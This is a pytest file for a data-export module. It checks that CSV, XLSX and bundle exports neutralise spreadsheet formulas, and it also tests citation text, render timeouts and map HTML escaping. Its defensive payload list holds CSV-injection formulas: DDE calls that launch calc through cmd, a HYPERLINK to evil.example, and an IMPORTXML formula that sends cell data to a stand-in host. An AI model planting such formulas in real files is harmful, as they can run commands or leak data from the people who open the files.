"""Test that exports keep their data exact and no cell can run as a spreadsheet formula."""

import io
from datetime import date

import openpyxl
import pandas as pd
import pytest

from atlas.build.export import (
    citation_lines,
    neutralize,
    safe_cell,
    to_csv,
    to_parquet,
    to_xlsx,
)

# OWASP CSV-injection payloads, and harmless look-alikes that must stay as they are.
PAYLOADS = [
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1",
    "=HYPERLINK(\"http://evil.example\",\"x\")", "=IMPORTXML(CONCAT(\"http://e.example/?\",A1),\"//a\")",
    "+cmd|'/C notepad'!'A1'", "-2+3+cmd|' /C calc'!A0", "@cmd|'/C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
    "=2*3", "==1", "=-1", "+=1", "-=1", "@=1", "=1;=2",
]
HARMLESS = ["Xi'an", "1.25", "≤1.25", "中国", "", "a=b", "PUE <1.2"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_payload_is_neutralised(payload):
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_is_unchanged(text):
    assert safe_cell(text) == text


def test_numbers_stay_numbers():
    frame = neutralize(pd.DataFrame({"value": [-45.0, 1.2], "note": ["-45 %", "ok"]}))
    assert frame["value"].tolist() == [-45.0, 1.2]
    assert frame["note"].tolist() == ["'-45 %", "ok"]


def test_csv_cells_cannot_run_as_formulas():
    frame = pd.DataFrame({"payload": PAYLOADS, "n": range(len(PAYLOADS))})
    back = pd.read_csv(io.BytesIO(to_csv(frame)), encoding="utf-8-sig", keep_default_na=False)
    assert all(cell.startswith("'") for cell in back["payload"])
    assert back["n"].tolist() == list(range(len(PAYLOADS)))


def test_xlsx_cells_are_text_not_formulas_and_citation_sheet_exists():
    frame = pd.DataFrame({"payload": PAYLOADS, "name": ["西安"] * len(PAYLOADS)})
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx(frame, citation=["Title", "=evil()"])))
    cells = [row[0] for row in book["data"].iter_rows(min_row=2)]
    assert all(c.data_type == "s" and c.value.startswith("'") for c in cells)
    assert [c.value for c in book["citation"]["A"]] == ["citation", "Title", "'=evil()"]
    assert book["data"]["B2"].value == "西安"


def test_parquet_round_trip_is_exact():
    frame = pd.DataFrame({"id": ["a", "b"], "value": [1.5, None]})
    back = pd.read_parquet(io.BytesIO(to_parquet(frame)))
    pd.testing.assert_frame_equal(back, frame, check_dtype=False)


def test_citation_lines_in_the_readers_language():
    sources = pd.DataFrame({"quality": ["A"], "publisher": ["Xinhua"], "title": ["Hubs approved"],
                            "url": ["http://example.org/x"]})
    args = ("Centers", sources, ("2021", "2025-06"), "http://localhost/data?table=centers")
    assert citation_lines(*args, exported=date(2026, 11, 27)) == [
        "Centers", "Exported 2026-11-27 from Compute Atlas: http://localhost/data?table=centers",
        "As of: 2021 – 2025-06",
        "Sources (grade A = official or mainstream citing one; B = trade/company/local; C = weak):",
        "- [A] Xinhua: Hubs approved. http://example.org/x"]
    chinese = citation_lines(*args, lang="zh-Hans", exported=date(2026, 11, 27))
    assert chinese[1] == "2026-11-27 导出自算力地图（Compute Atlas）：http://localhost/data?table=centers"
    assert chinese[2] == "截至：2021 – 2025-06" and chinese[3].startswith("来源（等级 A")


def test_image_that_cannot_render_in_time_gives_none(monkeypatch):
    import threading

    import plotly.graph_objects as go

    from atlas.build import export

    fig = go.Figure(go.Bar(x=["a"], y=[1]))
    gate = threading.Event()
    monkeypatch.setattr(export, "_image_server_started", True)
    monkeypatch.setattr(type(fig), "to_image", lambda self, **kw: gate.wait(5) or b"late")
    assert export.figure_image(fig, "png", timeout=0.2) is None  # a hung export is cut off
    gate.set()
    assert export.figure_html(fig, "T").startswith(b"<!doctype html>")


def gone(pid: int) -> bool:
    """The process has ended (a zombie waiting for its parent counts as ended)."""
    try:
        with open(f"/proc/{pid}/stat") as fh:
            return fh.read().rsplit(")", 1)[1].split()[0] == "Z"
    except FileNotFoundError:
        return True


def test_snapshot_that_hangs_is_killed_with_what_it_started(tmp_path, monkeypatch):
    import threading
    import time

    from atlas.build import export

    # A "chromium" that starts a child and waits for it for an hour, saying their process ids.
    hang = tmp_path / "chromium"
    hang.write_text(f"#!/bin/sh\nsleep 3600 &\necho $$ $! > {tmp_path}/pids\nwait\n")
    hang.chmod(0o755)
    monkeypatch.setenv("PATH", f"{tmp_path}:/usr/bin:/bin")
    result = {}
    call = threading.Thread(target=lambda: result.setdefault("image", export.page_image(b"<p>x</p>", timeout=3)))
    call.start()
    call.join(60)  # a guard, not a measure: without the kill this call would wait for the hour
    assert not call.is_alive() and result == {"image": None}
    pids = [int(p) for p in (tmp_path / "pids").read_text().split()]
    deadline = time.monotonic() + 10  # the orphaned child is reaped by init, a moment later
    while not all(gone(p) for p in pids) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert [p for p in pids if not gone(p)] == []


def test_snapshot_without_chromium_gives_none(tmp_path, monkeypatch):
    from atlas.build import export

    monkeypatch.setenv("PATH", str(tmp_path))
    assert export.page_image(b"<p>x</p>") is None


def test_map_html_is_self_contained_and_cited():
    import re

    import pydeck as pdk

    from atlas.build import export

    deck = pdk.Deck(layers=[pdk.Layer("ScatterplotLayer", data=[{"p": [104, 31], "name": "</script><b>x"}],
                                      get_position="p")], map_provider=None)
    page = export.map_html(deck, "Map <1>", [([0, 114, 178], "operating")], ["Map", "Exported …", "- [A] S"]).decode()
    assert not re.search(r"<(script|link)[^>]+(src|href)=[\"']?https?://", page)
    assert "createDeck" in page and "<title>Map &lt;1&gt;</title>" in page and "<li>[A] S</li>" in page
    assert "</script><b>" not in page  # data cannot close the script element


def test_bundle_holds_the_files_the_data_and_the_citation():
    import zipfile

    from atlas.build import export

    data = pd.DataFrame({"名称": ["=x", "西安"]})
    archive = zipfile.ZipFile(io.BytesIO(export.bundle({"map.png": b"png"}, data, ["T", "line"])))
    assert archive.namelist() == ["map.png", "data.csv", "citation.txt"]
    assert archive.read("citation.txt").decode() == "T\nline\n"
    assert "'=x" in archive.read("data.csv").decode("utf-8-sig")
